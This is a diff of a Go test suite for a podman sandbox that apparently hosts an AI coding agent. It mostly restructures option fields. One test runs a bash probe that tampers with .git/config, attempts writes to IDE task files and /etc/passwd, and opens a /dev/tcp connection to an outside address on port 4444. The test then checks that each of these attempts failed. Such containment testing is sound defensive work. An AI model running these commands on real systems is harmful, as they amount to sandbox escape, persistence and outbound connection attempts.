@@ -213,7 +213,8 @@ func TestRunOnPodman(t *testing.T) {
 // mainJob runs an agent, which must be the user uid, on an engine that has podmanImage.
 func mainJob(t *testing.T, e *engine.Engine, uid int) {
 	t.Helper()
-	tr := (&trial{image: podmanImage, git: true, options: runplan.Options{Command: []string{"bash", "-c", `
+	tr := (&trial{image: podmanImage, git: true, options: runplan.Options{
+		Claude: runplan.Claude{Command: []string{"bash", "-c", `
 echo work >file && cat file
 cat .git/HEAD; echo evil >.git/config; echo evil >.git/new && cat .git/new
 for f in .devcontainer/devcontainer.json .vscode/tasks.json /etc/passwd /run/sbx/policy.json; do
@@ -222,7 +223,8 @@ done 2>/dev/null
 (echo x >/dev/tcp/203.0.113.7/4444) 2>/dev/null && echo "REACHED an address"
 grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status
 id -u
-exit 7`}}}).run(t, e)
+exit 7`}},
+	}}).run(t, e)
 	out := tr.stdout.String()
 	if tr.err != nil || tr.result.ExitCode != 7 || !strings.HasPrefix(out, "work\n") || strings.Contains(out, "WROTE") || strings.Contains(out, "REACHED") {
 		t.Errorf("error %v, exit code %d:\n%s\n%s", tr.err, tr.result.ExitCode, out, tr.stderr.String())
@@ -256,7 +258,7 @@ func commitJob(t *testing.T, e *engine.Engine) {
 	t.Helper()
 	for _, mode := range []workspace.Mode{workspace.Bind, workspace.Clone} {
 		r := newRepository(t)
-		o := runplan.Options{CommitLeft: true, Command: []string{"bash", "-c", "set -e; echo b >b; git add b; git commit -q -m mine; echo c >c"}}
+		o := runplan.Options{Folders: runplan.Folders{CommitLeft: true}, Claude: runplan.Claude{Command: []string{"bash", "-c", "set -e; echo b >b; git add b; git commit -q -m mine; echo c >c"}}}
 		o.User.Workspace.Mode = string(mode)
 		tr := (&trial{image: podmanImage, dir: r.dir, options: o}).run(t, e)
 		if tr.err != nil || len(tr.result.Commits) != 1 || tr.result.Commits[0].Count != 2 {
@@ -320,7 +322,7 @@ func terminalJob(t *testing.T, e *engine.Engine) {
 	typed, keyboard := io.Pipe()
 	screen := &handTerminal{typed, &notifier{ready: make(chan struct{})}, make(chan terminal.Size, 1)}
 	screen.sizes <- terminal.Size{Columns: 91, Rows: 17}
-	tr := &trial{image: podmanImage, options: runplan.Options{Terminal: true, Shell: true, Command: []string{"bash", "--norc"}}, terminal: screen}
+	tr := &trial{image: podmanImage, options: runplan.Options{Claude: runplan.Claude{Terminal: true, Shell: true, Command: []string{"bash", "--norc"}}}, terminal: screen}
 	go func() {
 		_, _ = io.WriteString(keyboard, "shopt -s checkwinsize; until id >/dev/null; ((COLUMNS == 91 && LINES == 17)); do :; done; echo $((6*7)) re''ady; read answer; exit $answer\n")
 		<-screen.shown.ready
